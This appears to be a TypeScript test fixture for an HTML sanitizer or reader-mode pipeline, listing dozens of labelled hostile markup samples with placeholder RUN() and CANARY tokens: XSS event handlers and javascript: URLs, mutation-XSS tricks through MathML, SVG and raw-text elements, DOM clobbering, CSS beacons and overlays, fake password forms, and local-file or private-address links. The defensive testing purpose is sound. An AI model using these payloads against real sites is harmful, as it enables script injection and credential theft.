/**
 * What a stranger's page may put amid an article, by class. `RUN()` is the token of a script that must never run,
 * `CANARY` a server that must never be asked. Each stands between two true paragraphs.
 */
const FIGURE = 'width=600 height=400';

export const ownMarkup: readonly (readonly [string, string])[] = [
  [
    'alt-and-caption',
    `<figure><img src=/kapal.jpg ${FIGURE} alt='"><script>RUN()</script>'><figcaption>&lt;img src=x onerror=RUN()&gt; kapal</figcaption></figure>`,
  ],
  ['base-element', '<base href="javascript:RUN()//"><a href="jadwal">jadwal</a>'],
  [
    'byline-markup',
    '<p class=author rel=author>Oleh <a href="javascript:RUN()">Dewi<img src=x onerror=RUN()></a></p>',
  ],
  [
    'clobber-document',
    '<img name=createElement src=x><form name=createElement></form><img name=implementation src=x><form name=implementation></form>',
  ],
  [
    'clobber-duplicate-id',
    '<p id=saring-x>satu</p><p id=saring-x onclick=RUN()>dua</p><a href="#saring-x">ke sana</a>',
  ],
  [
    'clobber-form',
    '<form onclick=RUN()><input name=firstChild><input name=nextSibling><input name=localName><input name=getAttribute><p>Isi formulir.</p><img src=x onerror=RUN()></form>',
  ],
  [
    'clobber-form',
    '<form id=attributes><input name=attributes><input name=parentNode><input name=nodeType></form>',
  ],
  [
    'clobber-window',
    '<a id=chrome></a><a id=browser href="javascript:RUN()">x</a><a id=saringPipeline name=extract href="CANARY">y</a>',
  ],
  ['clobber-window', '<a id=saringReader></a><a id=createReading></a><a id=Node></a><a id=DOMParser></a>'],
  [
    'css-beacon-attribute',
    '<p style="background:url(CANARY);list-style-image:url(CANARY?2)">Kalimat bergaya.</p>',
  ],
  [
    'css-cover',
    '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Sesi berakhir. <a href="CANARY">Masuk lagi</a></div>',
  ],
  [
    'css-cover-markup',
    '<table width=99999 height=99999 bgcolor=white><tr><td colspan=65535 rowspan=65535>penutup</table><font size=+99 color=red>besar</font>',
  ],
  ['css-false-ui', '<div class="bar reader" role=toolbar><button onclick=RUN()>Tutup</button></div>'],
  ['css-hang', '<p style="--a:var(--b) var(--b);--b:var(--c) var(--c);--c:x;width:var(--a)">lebar</p>'],
  ['css-leak', '<style>a[href^="https"]{background:url(CANARY?a)}</style>'],
  ['css-link', '<link rel=stylesheet href=CANARY><link rel="alternate stylesheet" href=CANARY title=x>'],
  ['css-our-ui', '<style>*{display:none!important}.bar,button{visibility:hidden!important}</style>'],
  ['css-script', '<style>p{behavior:url(javascript:RUN());-moz-binding:url("javascript:RUN()")}</style>'],
  ['css-style-element', '<svg><style>@import "CANARY";*{background:url(CANARY)}</style></svg>'],
  [
    'custom-element',
    '<kabar-kotak onclick=RUN() is=kabar-kotak><kabar-isi onmouseover=RUN()>Teks dalam kotak.</kabar-isi></kabar-kotak>',
  ],
  ['data-url-encodings', '<iframe src="data:text/html;charset=utf-16,<script>RUN()</script>"></iframe>'],
  ['date-odd', `<time datetime='"><img src=x onerror=RUN()>' onclick=RUN()>kemarin</time>`],
  [
    'declarative-shadow',
    '<div><template shadowrootmode=open><img src=x onerror=RUN()><slot></slot></template>terang</div>',
  ],
  [
    'embed-allow-list',
    '<figure><iframe src="https://www.youtube.com.canary.test/embed/x" onload=RUN()></iframe><figcaption>video</figcaption></figure>',
  ],
  [
    'encoded-text',
    '<p>&amp;lt;script&amp;gt;RUN()&amp;lt;/script&amp;gt; \\u003cimg src=x onerror=RUN()\\u003e</p>',
  ],
  ['epub-xml', '<![CDATA[<img src=x onerror=RUN()>]]><?xml-stylesheet href="CANARY"?>'],
  [
    'event-handler-alone',
    '<p onpointerrawupdate=RUN() oncontentvisibilityautostatechange=RUN() onscrollend=RUN() style="content-visibility:auto">gulir</p>',
  ],
  ['event-handler-by-hand', '<div tabindex=0 onkeydown=RUN() oncopy=RUN() onwheel=RUN()>salin aku</div>'],
  [
    'event-handler-spelling',
    '<img/src=x\fONERROR\n=\tRUN()><a href=x/onclick=RUN() OnFocus=RUN() autofocus tabindex=1>x</a>',
  ],
  ['focus-and-keys', '<p contenteditable autofocus tabindex=1 accesskey=w onfocus=RUN()>ketik di sini</p>'],
  [
    'form-bait',
    '<form action=CANARY method=post><label>Sandi <input type=password autofocus name=p></label><button formaction="javascript:RUN()">Lanjut</button></form>',
  ],
  [
    'form-bait',
    '<input type=image src=CANARY onerror=RUN()><select autofocus onfocus=RUN()><option>x</select><textarea>RUN()</textarea>',
  ],
  [
    'frame',
    '<iframe srcdoc="<script>parent.RUN()</script>" src=CANARY></iframe><frameset onload=RUN()><frame src="javascript:RUN()"></frameset>',
  ],
  [
    'frame',
    '<object data="data:text/html,<script>RUN()</script>"></object><embed src="javascript:RUN()"><portal src=CANARY></portal>',
  ],
  ['html-save', '<p>--></style></script></title></textarea><script>RUN()</script></p>'],
  [
    'image-handlers',
    `<picture onload=RUN()><source srcset="x" onerror=RUN()><img src=/peta.png ${FIGURE} onload=RUN() usemap=#m ismap></picture><map name=m><area href="javascript:RUN()"></map>`,
  ],
  ['image-lazy-repair', `<img data-src='x" onerror="RUN()' data-srcset='y 1x" onload="RUN()' ${FIGURE}>`],
  [
    'image-lazy-repair',
    '<noscript><img src=x onerror=RUN() width=600 height=400></noscript><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" class=lazy>',
  ],
  [
    'link-ping-download',
    '<a href="https://kabar.example/" ping=CANARY attributionsrc=CANARY download="../../.profile">unduh</a>',
  ],
  [
    'link-target',
    '<a href="https://kabar.example/x" target=_top rel=opener>pindah</a><a href="//user:pass@kabar.example/">masuk</a>',
  ],
  ['markdown-block', '<pre>```\nRUN()\n```</pre><ol start=99999999><li>x</ol>'],
  ['markdown-link', '<p>[klik](javascript:RUN()) &lt;javascript:RUN()&gt; ![](CANARY)</p>'],
  [
    'mathml-links',
    '<math href="javascript:RUN()"><mtext xlink:href="javascript:RUN()"><mglyph src=CANARY></mglyph>E</mtext></math>',
  ],
  [
    'media-source',
    '<video autoplay muted poster=CANARY><track default src=CANARY></video><audio autoplay src="data:audio/wav,x" onerror=RUN()></audio>',
  ],
  [
    'media-source',
    '<video autoplay onloadstart=RUN()><source src="javascript:RUN()" onerror=RUN()>tak bisa diputar</video><bgsound src=CANARY>',
  ],
  [
    'meta-refresh',
    '<meta http-equiv=refresh content="0;url=javascript:RUN()"><meta http-equiv=Content-Security-Policy content="default-src *">',
  ],
  [
    'mxss-attributes',
    `<p title='</p><img src=x onerror=RUN()>' lang='"><script>RUN()</script>' id='x"><svg onload=RUN()>'>teks</p>`,
  ],
  ['mxss-comments', '<!--><img src=x onerror=RUN()>--><!-- --!><img src=x onerror=RUN()>-->'],
  [
    'mxss-deep',
    `${'<div>'.repeat(400)}<svg><style><a title="</style><img src=x onerror=RUN()>"></style></svg>${'</div>'.repeat(400)}`,
  ],
  [
    'mxss-double-decode',
    '<p>&amp;lt;img src=x onerror=RUN()&amp;gt;</p><p title="&amp;quot;onclick=RUN()">x</p>',
  ],
  ['mxss-namespace', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN()>'],
  [
    'mxss-namespace',
    '<svg><foreignObject><p><style><!--</style><a title="--><img src=x onerror=RUN()>"></foreignObject></svg>',
  ],
  [
    'mxss-raw-text',
    '<noscript><p title="</noscript><img src=x onerror=RUN()>"></noscript><xmp><p title="</xmp><img src=x onerror=RUN()>"></xmp>',
  ],
  [
    'mxss-raw-text',
    '<noembed><img title="</noembed><img src=x onerror=RUN()>"></noembed><plaintext><img src=x onerror=RUN()>',
  ],
  [
    'mxss-tables-forms',
    '<table><p><a><table><a><style><img title="</style><img src=x onerror=RUN()>"></table></a></table>',
  ],
  ['mxss-template', '<template><style></template><img src=x onerror=RUN()></style></template>'],
  ['next-page-link', '<div class=pagination><a rel=next href="/keluar?lagi=2">Halaman berikutnya</a></div>'],
  [
    'open-by-markup',
    '<div popover=auto id=pop>Masuk <input type=password></div><button popovertarget=pop>buka</button><dialog open onclose=RUN()>Langganan</dialog>',
  ],
  [
    'prefixed-attributes',
    '<svg xmlns:p="http://www.w3.org/1999/xlink"><a p:href="javascript:RUN()"><text>klik</text></a></svg>',
  ],
  [
    'resource-hint',
    '<link rel=preload as=script href=CANARY><link rel=dns-prefetch href=CANARY><link rel=prerender href=CANARY>',
  ],
  ['script-element', '<script>RUN()</script><script type=module>RUN()</script><SCRIPT/SRC=CANARY></SCRIPT>'],
  [
    'script-mathml',
    '<math><annotation-xml encoding="text/html"><script>RUN()</script><img src=x onerror=RUN()></annotation-xml></math>',
  ],
  ['script-svg', '<svg onload=RUN()><script href=CANARY>RUN()</script></svg>'],
  ['shadow-root', '<p><slot name=x onslotchange=RUN()></slot><span slot=x>bayangan</span></p>'],
  ['svg-animate', '<svg><a><set attributeName=href to="javascript:RUN()"/><text>klik</text></a></svg>'],
  [
    'svg-as-image',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN()'><image href='CANARY'/></svg>" ${FIGURE}>`,
  ],
  [
    'svg-foreign',
    '<svg><foreignObject><iframe src="javascript:RUN()"></iframe><body onload=RUN()></foreignObject></svg>',
  ],
  ['svg-use', '<svg><use href="CANARY#x"/><image href=CANARY /><feImage href=CANARY /></svg>'],
  [
    'template-expression',
    `<p v-html="'<img src=x onerror=RUN()>'" ng-init="RUN()">{{constructor.constructor('RUN()')()}}</p>`,
  ],
  [
    'tracking-pixel',
    '<img src=CANARY width=1 height=1><img src=CANARY style="width:1px;height:1px"><img src=CANARY hidden>',
  ],
  ['tracking-pixel', '<picture><source srcset=CANARY><img src=CANARY width=0 height=0></picture>'],
  [
    'url-data-sink',
    '<a href="data:text/html,<script>RUN()</script>">buka</a><blockquote cite="data:text/html,x">kata</blockquote>',
  ],
  [
    'url-javascript-markup',
    '<a href=" &#1;java&#10;script:RUN()">a</a><a href="javascript&colon;RUN()">b</a><a href="\tjavas\ncript:RUN()">c</a>',
  ],
  [
    'url-javascript-sink',
    '<a href="vbscript:RUN()">a</a><q cite="javascript:RUN()">b</q><img src="javascript:RUN()"><video src="javascript:RUN()"></video>',
  ],
  [
    'url-private-address',
    `<a href="http://127.1/admin">a</a><img src="http://[::1]/x.png" ${FIGURE}><img srcset="http://2130706433/x.png 2x" ${FIGURE}>`,
  ],
  [
    'url-scheme',
    '<a href="file:///etc/passwd">a</a><a href="chrome://settings">b</a><a href="blob:https://kabar.example/1">c</a><a href="intent://x#Intent;end">d</a>',
  ],
  [
    'mathml-html',
    "<math><mtext><img src=x onerror=RUN()><script>RUN()</script><style>@import 'CANARY'</style></mtext></math>",
  ],
  [
    'mathml-html',
    '<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN()&gt;"></mglyph></table></mi></math>',
  ],
  [
    'mathml-glyph',
    '<math><mtext><table><mglyph><style><math>CDATA</style><a title="</style><img src=x onerror=RUN()>"></a></table></mtext></math>',
  ],
  [
    'mathml-glyph',
    '<math><mtext><mglyph><svg><mtext><style><path id="</style><img src=x onerror=RUN()>"></style></mtext></svg></mglyph></mtext></math>',
  ],
  [
    'mathml-glyph',
    '<math><mtext><malignmark><mglyph src=CANARY><style><!--</style><!--<img src=x onerror=RUN()>--></mglyph></malignmark></mtext></math>',
  ],
  [
    'mathml-annotation',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN()><style><a title="</style><img src=x onerror=RUN()>"></style></annotation-xml><mi>x</mi></math>',
  ],
  [
    'mathml-annotation',
    '<math><semantics><annotation-xml encoding="application/xhtml+xml"><iframe srcdoc="<script>parent.RUN()</script>"></iframe></annotation-xml><annotation encoding="application/x-tex"><img src=x onerror=RUN()></annotation></semantics></math>',
  ],
  [
    'mathml-annotation',
    '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=RUN()>">',
  ],
  [
    'mathml-link',
    '<math href="javascript:RUN()"><mrow href="javascript:RUN()"><mi xlink:href="javascript:RUN()" xlink:type=simple>x</mi></mrow></math>',
  ],
  [
    'mathml-link',
    '<math><maction actiontype="statusline#CANARY" xlink:href="javascript:RUN()"><mi>x</mi><mtext>CANARY</mtext></maction></math>',
  ],
  [
    'mathml-style',
    '<math><mi style="background:url(CANARY)" mathbackground="url(CANARY)" fontfamily="x;background:url(CANARY)" mathcolor=red class=bar id=saringReader onclick=RUN() tabindex=0>x</mi><mspace width=99999em height=99999em></mspace><mpadded width=99999em voffset=-9999em><mi>x</mi></mpadded></math>',
  ],
  [
    'mathml-alttext',
    "<math alttext='\"><img src=x onerror=RUN()><script>RUN()</script>'><mi>x</mi></math><math alttext='</math><img src=x onerror=RUN()>'></math>",
  ],
  [
    'mathml-nested',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN()></style></mglyph></form></mtext></math>',
  ],
  [
    'mathml-nested',
    '<math><mtext></p><p><math><mi><style>*{display:none}</style></mi></math><title><a id="</title><img src=x onerror=RUN()>"></title></mtext></math>',
  ],
  [
    'mathml-nested',
    '<math><mo>&lt;/mo&gt;&lt;/math&gt;&lt;img src=x onerror=RUN()&gt;</mo><mtext>&lt;script&gt;RUN()&lt;/script&gt;</mtext><ms><![CDATA[</ms></math><img src=x onerror=RUN()>]]></ms></math>',
  ],
  [
    'mathml-clobber',
    '<math><mtext><form id=x><input name=namespaceURI><input name=localName><input name=firstChild><input name=getAttribute><mglyph></mglyph></form></mtext><mi>y</mi></math>',
  ],
  [
    'mathml-select',
    '<math><select><mi><option><style></select><img src=x onerror=RUN()></style></option></mi></select><noscript><p title="</noscript><img src=x onerror=RUN()>"></noscript></math>',
  ],
  [
    'tex-source',
    '<script type="math/tex">\\href{javascript:RUN()}{x}</script><p><img src=x onerror=RUN()></p><span class=katex><span class=katex-mathml><math><semantics><mrow><mi>x</mi></mrow><annotation encoding="application/x-tex">\\htmlData{x=</annotation><img src=x onerror=RUN()></semantics></math></span></span>',
  ],
  [
    'tex-source',
    '<script type="math/mml"><math><mtext><img src=x onerror=RUN()></mtext><mi>x</mi></math><img src=CANARY onerror=RUN()></script>',
  ],
];
